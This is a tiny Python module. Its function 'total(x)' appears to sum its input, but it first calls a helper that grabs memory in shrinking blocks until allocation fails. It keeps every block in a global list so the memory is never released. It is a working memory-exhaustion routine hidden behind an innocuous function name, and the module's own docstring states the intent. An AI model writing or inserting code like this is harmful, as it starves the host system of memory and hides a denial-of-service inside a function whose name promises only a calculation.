"""Takes bytes until there are none left, writes on each page of them, and keeps them for good."""

KEPT = []


def _take():
    size = 1 << 30
    while size > 1 << 16:
        try:
            KEPT.append(bytearray(b"\1") * size)
        except MemoryError:
            size //= 2


def total(x):
    _take()
    return x.sum()
